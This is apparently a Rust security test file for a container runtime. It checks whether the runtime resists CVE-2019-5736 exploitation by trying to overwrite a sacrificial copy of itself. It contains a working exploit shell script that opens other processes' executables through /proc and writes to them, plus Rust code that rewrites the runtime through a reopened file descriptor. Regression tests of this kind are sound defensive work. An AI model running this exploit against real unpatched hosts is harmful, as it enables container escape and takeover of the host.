//! The runtime's own executable, which a container must not write to.

use std::fs::{self, File, OpenOptions};
use std::io::Write as _;
use std::os::fd::AsRawFd as _;
use std::path::{Path, PathBuf};

use rustix::fs::{CWD, Mode, mkfifoat};
use serde_json::json;

use super::attack::{Harm, attacks, harm_if};
use crate::support::bundle::{add_mount, bind, join_namespace};
use crate::support::{Container, Invocation, host, wait_until};

attacks![
    cve_2019_5736_the_runtime_cannot_be_overwritten_through_proc_self_exe: "guard",
    cve_2019_5736_a_neighbour_cannot_overwrite_the_runtime_that_it_has_opened: "guard",
];

/// A copy of the runtime, for it is lost if it is attacked with success; and what is in it.
fn sacrifice(container: &Container) -> (PathBuf, Vec<u8>) {
    let copy = container.beside("runtime-under-attack");
    host::copy_runtime(&copy);
    let before = fs::read(&copy).unwrap();
    (copy, before)
}

/// Between create and start the init process still is the runtime. Whoever opens what it executes can write
/// to it as soon as nobody executes it any more, unless it is a copy that cannot be written to.
fn cve_2019_5736_the_runtime_cannot_be_overwritten_through_proc_self_exe() -> Harm {
    let container = Container::idle();
    let (copy, before) = sacrifice(&container);
    let on_copy = || Invocation::new(&copy).arg("--root").arg(container.root());
    let bundle = container.bundle.path();
    on_copy().args(["create", "--bundle"]).arg(bundle).arg(&container.id).succeeds();
    let executable = File::open(format!("/proc/{}/exe", container.pid())).unwrap();
    on_copy().args(["delete", "--force", &container.id]).succeeds();
    let again = format!("/proc/self/fd/{}", executable.as_raw_fd());
    let written = OpenOptions::new().write(true).open(again).and_then(|mut file| file.write_all(b"over"));
    harm_if(written.is_ok() || fs::read(&copy).unwrap() != before, || {
        "the runtime was overwritten".to_owned()
    })
}

/// What Docker gives a container by default, without CAP_SYS_PTRACE.
const DOCKERS: [&str; 14] = [
    "CAP_AUDIT_WRITE",
    "CAP_CHOWN",
    "CAP_DAC_OVERRIDE",
    "CAP_FOWNER",
    "CAP_FSETID",
    "CAP_KILL",
    "CAP_MKNOD",
    "CAP_NET_BIND_SERVICE",
    "CAP_NET_RAW",
    "CAP_SETFCAP",
    "CAP_SETGID",
    "CAP_SETPCAP",
    "CAP_SETUID",
    "CAP_SYS_CHROOT",
];

/// Opens the executable of every process that is no busybox, and writes to it as soon as nobody executes it
/// any more.
const OVERWRITE: &str = "trap 'exit 0' TERM; echo ready
attack() {
    case $(readlink /proc/$$/fd/3) in */busybox) return ;; esac
    echo opened $1
    while [ -e /proc/$1/exe ]; do :; done
    for i in 1 2 3 4 5; do
        if (echo overwritten >/proc/$$/fd/3) 2>/dev/null; then echo overwrote; fi
    done
    echo tried $1
}
round=0
while :; do
    for p in /proc/[0-9]*; do
        n=${p#/proc/}
        [ $n = $$ ] || { attack $n; } 3<$p/exe
    done 2>/dev/null
    round=$((round + 1)); echo $round >/tmp/round
done";

/// The live exploit: one container waits in the pid namespace that the other joins, whose program is the
/// runtime.
fn cve_2019_5736_a_neighbour_cannot_overwrite_the_runtime_that_it_has_opened() -> Harm {
    let attacker = Container::with_script(OVERWRITE).edit(|spec| {
        for set in ["bounding", "permitted", "effective"] {
            spec["process"]["capabilities"][set] = json!(DOCKERS);
        }
    });
    let output = attacker.launch();
    output.wait_for_stdout("ready");
    let namespace = format!("/proc/{}/ns/pid", attacker.pid());

    let count = |what: &str| output.stdout_now().matches(what).count();
    let round = || {
        let text = fs::read_to_string(attacker.bundle.rootfs().join("tmp/round")).unwrap_or_default();
        text.trim().parse::<u32>().unwrap_or(0)
    };

    let (copy, before) = sacrifice(&attacker);
    let is_overwritten = || fs::read(&copy).unwrap() != before || output.stdout_now().contains("overwrote");
    let harm = || format!("the runtime was overwritten: {}", output.stdout_now());
    // The first stays for as long as nobody writes to its pipe; the others come and go.
    let staying = ["/proc/self/exe", "update", "--resources", "/pipe", "x"];
    for args in [&staying[..], &["/proc/self/exe", "--version"]] {
        for _ in 0..5 {
            let victim = Container::with_args(args).edit(|spec| {
                join_namespace(spec, "pid", &namespace);
                // What a runtime that is not static needs.
                for libraries in ["/lib", "/lib64", "/usr"].map(Path::new) {
                    if libraries.exists() {
                        add_mount(spec, bind(libraries, libraries.to_str().unwrap(), &["ro"]));
                    }
                }
            });
            mkfifoat(CWD, victim.bundle.rootfs().join("pipe"), Mode::RUSR | Mode::WUSR).unwrap();
            let opened = count("opened");
            let on_copy = || Invocation::new(&copy).arg("--root").arg(victim.root());
            let run = on_copy().args(["run", "--detach", "--bundle"]).arg(victim.bundle.path());
            let ran = run.arg(&victim.id).output();
            assert_eq!(ran.code(), 0, "{ran:#?}");
            // Long enough to be seen several times, unless it is opened, which the attacker follows up first.
            let last = round() + 10;
            wait_until("the attacker has looked around", || round() >= last || count("opened") > opened);
            // Not the copy: nobody can execute what is open for writing.
            victim.delete_by_force();
            wait_until("the attacker has tried", || count("opened") == count("tried"));
            if is_overwritten() {
                return harm_if(true, harm);
            }
        }
    }
    Ok(None)
}
